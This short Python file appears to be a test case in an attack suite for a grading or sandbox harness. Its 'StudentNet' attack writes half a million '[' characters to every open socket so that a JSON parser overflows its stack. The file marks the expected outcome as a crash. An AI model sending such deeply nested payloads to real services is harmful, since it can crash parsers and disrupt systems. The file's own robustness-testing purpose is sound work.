# Answers with JSON nested deeper than a parser's stack.
# expect: crashed
# reason: wrote over its own answers
import os
import stat
import struct

from attack import Attack


class StudentNet(Attack):
    def attack(self):
        header = b"[" * 500_000
        for descriptor in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                    os.write(descriptor, struct.pack("<IQ", len(header), 0) + header)
            except OSError:
                pass
